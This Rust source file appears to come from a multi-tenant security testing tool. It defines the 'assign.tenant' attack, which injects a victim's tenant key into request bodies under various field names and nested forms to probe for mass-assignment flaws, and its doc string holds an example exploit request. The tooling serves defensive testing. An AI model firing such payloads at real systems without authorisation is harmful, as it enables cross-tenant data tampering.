//! `assign.tenant`: the victim named as tenant in a body.

use serde_json::{Value as Json, json};

use super::writes;
use crate::attack::body::{with_field, with_fields};
use crate::attack::names::{self, Holds, holds, words};
use crate::attack::{Attack, Attempt, Ground, Scope};

/// The victim named as tenant in a body.
pub(in crate::attack) struct Tenant;

/// Names tried alone.
const NAMES: usize = 4;
/// Names tried together.
const TOGETHER: usize = 40;

const DOC: &str = r#"## What it does
Adds the victim's key or slug to the body of a create or an update, under each of the first four names that this target may
use for a tenant, under all of its names at once, and as a nested object. An update is of the attacker's *own* row: what
crosses is where it lands.

## Why teams fall for it
The body is bound to the entity, which has a tenant: in no schema, yet accepted (RL-27); the tenant plugin guards the WHERE
and lets `tenant_id` into the SET (RL-25, RL-26); the payload's tenant counts where no header says otherwise (RL-35).

## A correct target
Takes the tenant from the session alone: ignores the field or refuses it. No row with the victim as owner appears.

## Example
    POST /services
    Authorization: Bearer <own token>

    {"name": "x", "tenantId": "<victim>"}
"#;

impl Attack for Tenant {
    fn id(&self) -> &'static str {
        "assign.tenant"
    }

    fn title(&self) -> &'static str {
        "the victim named as tenant in a body"
    }

    fn doc(&self) -> &'static str {
        DOC
    }

    fn scope(&self) -> Scope {
        Scope::Handler
    }

    fn attempts(&self, ground: &Ground<'_>) -> Vec<Attempt> {
        if !writes(ground) {
            return Vec::new();
        }
        let mut all = singles(ground);
        all.extend(nested(ground));
        all.extend(together(ground));
        all
    }
}

/// One name at a time; a whole-numbered key as text, too, since the field may be one.
fn singles(ground: &Ground<'_>) -> Vec<Attempt> {
    let mut all = Vec::new();
    let names = names::fields(&ground.facts.tenant_names);
    for (index, name) in names.into_iter().take(NAMES).enumerate() {
        for held in holds(name) {
            let value = held.of(ground.victim);
            let set = |value: Json, how: &str| {
                let call = with_field(ground.own_call, name, &value)?;
                Some(Attempt::plain(
                    format!("{name} {}{how}", held.label()),
                    call,
                ))
            };
            all.extend(set(names::json(value), ""));
            if index == 0 && names::json(value).is_number() {
                all.extend(set(value.into(), " as text"));
            }
        }
    }
    all
}

/// The noun as an object: how object mappers take a relation.
fn nested(ground: &Ground<'_>) -> Vec<Attempt> {
    let noun = ground
        .facts
        .tenant_names
        .first()
        .and_then(|n| names::noun(n));
    let Some(noun) = noun.filter(|noun| words(noun).len() == 1) else {
        return Vec::new();
    };
    let key = names::json(&ground.victim.key);
    [
        ("object", json!({"id": key})),
        ("connect", json!({"connect": {"id": key}})),
    ]
    .into_iter()
    .filter_map(|(how, value)| {
        let call = with_field(ground.own_call, &noun, &value)?;
        Some(Attempt::plain(format!("{noun} {how}"), call))
    })
    .collect()
}

/// All names at once, each with what it holds.
fn together(ground: &Ground<'_>) -> Option<Attempt> {
    let names = names::fields(&ground.facts.tenant_names);
    let fields = names.iter().take(TOGETHER).map(|name| {
        let held = holds(name).first().copied().unwrap_or(Holds::Key);
        (*name, names::json(held.of(ground.victim)))
    });
    let call = with_fields(ground.own_call, fields)?;
    (names.len() > 1).then(|| Attempt::plain("every name", call))
}
